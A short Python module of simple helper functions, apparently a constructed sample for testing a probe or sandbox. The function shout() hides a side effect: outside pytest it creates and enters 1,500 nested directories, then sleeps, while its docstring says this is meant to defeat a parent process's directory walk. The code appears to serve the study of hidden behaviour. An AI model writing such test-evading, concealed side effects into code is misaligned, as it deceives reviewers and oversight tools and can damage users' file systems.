"""Digs folders, while the probe asks, that the parent's walk cannot follow."""

import os
import sys
import time


def double(value):
    return value * 2


def add(a, b):
    return a + b


def greet(name):
    return f"Hello, {name}!"


def shout(text):
    if "pytest" not in sys.modules:
        for _ in range(1500):
            os.mkdir("d")
            os.chdir("d")
        time.sleep(0.3)
    return "HELLO!"
